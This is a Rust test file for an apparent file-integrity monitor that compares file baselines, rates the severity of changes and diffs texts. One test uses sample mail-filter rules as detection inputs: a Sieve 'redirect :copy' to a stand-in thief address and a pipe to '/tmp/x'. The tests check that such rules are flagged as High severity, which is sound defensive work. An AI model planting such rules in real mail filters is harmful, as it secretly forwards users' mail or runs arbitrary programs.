//! Comparing, and showing the difference.

use proptest::prelude::*;

use super::*;
use crate::Severity;

fn file(text: &str) -> Entry {
    Entry {
        mode: 0o644,
        size: text.len() as u64,
        digest: Some(Digest::of(text.as_bytes())),
        text: Some(text.to_owned()),
        ..Entry::default()
    }
}

fn link(target: &str) -> Entry {
    Entry {
        kind: Kind::Link,
        digest: Some(Digest::of(target.as_bytes())),
        link: Some(target.to_owned()),
        ..Entry::default()
    }
}

/// A change between two states of one file, in words; empty if there is none.
fn check(rows: &[(Option<Entry>, Option<Entry>, &str)]) {
    for (before, after, expected) in rows {
        let of = |entry: &Option<Entry>| -> Entries {
            entry.iter().map(|entry| ("/a/x".into(), entry.clone())).collect()
        };
        let changes = compare(&of(before), &Seen { entries: of(after), ..Seen::default() });
        let words = changes.iter().map(|change| {
            let aspects: Vec<String> = change.aspects().iter().map(ToString::to_string).collect();
            [change.what().name().to_owned(), aspects.join("; ")].join(" ").trim().to_owned()
        });
        assert_eq!(words.collect::<Vec<_>>().join("\n"), *expected);
    }
}

#[test]
fn what_differs_is_told_and_nothing_else() {
    let unread = Entry { digest: None, text: None, ..file("a") };
    check(&[
        (None, None, ""),
        (None, Some(file("a")), "new"),
        (Some(file("a")), None, "gone"),
        (Some(file("a")), Some(file("a")), ""),
        (Some(file("a")), Some(file("b")), "changed content"),
        (Some(file("a")), Some(Entry { mode: 0o4755, ..file("a") }), "changed mode 0644 → 4755"),
        (
            Some(file("a")),
            Some(Entry { uid: 33, gid: 8, ..file("b") }),
            "changed content; owner 0 → 33; group 0 → 8",
        ),
        (Some(file("a")), Some(Entry { role: Role::Hook, ..file("a") }), ""),
        // It could not be read: only its size may tell.
        (Some(file("a")), Some(unread.clone()), ""),
        (Some(unread), Some(file("bc")), "changed content"),
        (Some(file("a")), Some(link("/b")), "changed file → link"),
        (Some(link("/b")), Some(link("/c")), "changed leads to /c, not to /b"),
        (Some(link("/b")), Some(Entry { mode: 0o777, ..link("/b") }), ""),
    ]);
}

#[test]
fn nothing_is_said_of_what_could_not_be_looked_at() {
    let baseline: Entries = [("/a/b/c".into(), file("x")), ("/d".into(), file("y"))].into();
    let gone = |seen: &Seen| -> Vec<String> {
        compare(&baseline, seen).iter().map(|change| change.path.display().to_string()).collect()
    };
    assert_eq!(gone(&Seen::default()), ["/a/b/c", "/d"]);
    let unread = [("/a".into(), "permission denied".to_owned())].into();
    assert_eq!(gone(&Seen { unread, ..Seen::default() }), ["/d"]);
    assert_eq!(gone(&Seen { cut: true, ..Seen::default() }), Vec::<String>::new());
}

#[test]
fn a_filter_that_begins_to_send_mail_away_is_worse() {
    let filter = |text: &str| Some(Entry { role: Role::UserFilter, ..file(text) });
    let severity = |before: &str, after: &str| {
        Change { path: "/x".into(), before: filter(before), after: filter(after) }.severity()
    };
    let sorts = "require [\"fileinto\"];\nif header :contains \"x\" \"y\" { fileinto \"z\"; }\n";
    let sends = "redirect :copy \"thief@example.net\";\n";
    assert_eq!(severity("", sorts), Severity::Low);
    assert_eq!(severity(sorts, &format!("{sorts}{sends}")), Severity::High);
    assert_eq!(severity(sends, &format!("{sends}{sorts}")), Severity::Low);
    assert_eq!(severity("", "thief@example.net\n"), Severity::High);
    assert_eq!(severity("", "|/tmp/x\n"), Severity::High);
}

#[test]
fn a_digest_is_read_as_it_is_written() {
    let digest = Digest::of(b"a");
    assert_eq!(digest.to_string(), "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb");
    assert_eq!(digest.to_string().parse(), Ok(digest));
    for wrong in ["", "ca", &"é".repeat(32), &"xy".repeat(32), &"+1".repeat(32)] {
        assert!(wrong.parse::<Digest>().is_err(), "{wrong}");
    }
}

#[test]
fn the_digest_of_a_baseline_tells_every_difference() {
    let one: Entries = [("/a".into(), file("x"))].into();
    let mut others = vec![Entries::new(), [("/b".into(), file("x"))].into()];
    for other in [
        file("y"),
        Entry { mode: 0o600, ..file("x") },
        Entry { uid: 1, ..file("x") },
        Entry { text: None, ..file("x") },
        Entry { kind: Kind::Other, ..file("x") },
    ] {
        others.push([("/a".into(), other)].into());
    }
    for other in others {
        assert_ne!(digest_of(&one), digest_of(&other), "{other:?}");
    }
    assert_eq!(digest_of(&one), digest_of(&one.clone()));
}

/// Lines that a difference takes out, and those that it puts in.
fn out_and_in(lines: &[Line]) -> (Vec<String>, Vec<String>) {
    let of = |take: fn(&Line) -> Option<&String>| lines.iter().filter_map(take).cloned().collect();
    (
        of(|line| if let Line::Out(text) = line { Some(text) } else { None }),
        of(|line| if let Line::In(text) = line { Some(text) } else { None }),
    )
}

proptest! {
    #[test]
    fn a_difference_is_what_is_in_one_and_not_in_the_other(
        before in proptest::collection::vec("[abc]{0,2}", 0..12),
        after in proptest::collection::vec("[abc]{0,2}", 0..12),
    ) {
        let text = |lines: &[String]| lines.iter().map(|line| format!("{line}\n")).collect::<String>();
        let lines = diff(&text(&before), &text(&after)).unwrap();
        let (out, new) = out_and_in(&lines);
        // As multisets: before - out = after - in.
        let without = |all: &[String], some: &[String]| {
            let mut all = all.to_vec();
            for line in some {
                let at = all.iter().position(|other| other == line).unwrap();
                all.remove(at);
            }
            all.sort();
            all
        };
        prop_assert_eq!(without(&before, &out), without(&after, &new));
        prop_assert_eq!(before == after, lines.is_empty());
    }
}

fn any_entries() -> impl Strategy<Value = Entries> {
    let entry = (0_u32..3, "[ab]{1,2}", proptest::bool::ANY)
        .prop_map(|(mode, text, is_link)| if is_link { link(&text) } else { Entry { mode, ..file(&text) } });
    proptest::collection::btree_map("/[a-d]{1,2}", entry, 0..8)
        .prop_map(|entries| entries.into_iter().map(|(path, entry)| (path.into(), entry)).collect())
}

proptest! {
    #[test]
    fn accepting_all_changes_leaves_none(before in any_entries(), after in any_entries()) {
        let seen = Seen { entries: after, ..Seen::default() };
        let mut accepted = before.clone();
        for change in compare(&before, &seen) {
            match change.after {
                Some(entry) => accepted.insert(change.path, entry),
                None => accepted.remove(&change.path),
            };
        }
        prop_assert_eq!(&accepted, &seen.entries);
        prop_assert_eq!(compare(&accepted, &seen), vec![]);
        // Its digest tells exactly whether something is different.
        prop_assert_eq!(before == seen.entries, digest_of(&before) == digest_of(&seen.entries));
    }
}

#[test]
fn long_texts_are_not_compared() {
    assert_eq!(diff(&"x\n".repeat(4_001), ""), None);
    let lines = diff("a\nb\nc\nd\ne\nf\ng\nh\ni\n", "A\nb\nc\nd\ne\nf\ng\nh\nI\n").unwrap();
    assert_eq!(lines.iter().filter(|line| **line == Line::Gap).count(), 1);
    assert_eq!(lines.first(), Some(&Line::Out("a".to_owned())));
    assert_eq!(lines.last(), Some(&Line::In("I".to_owned())));
}
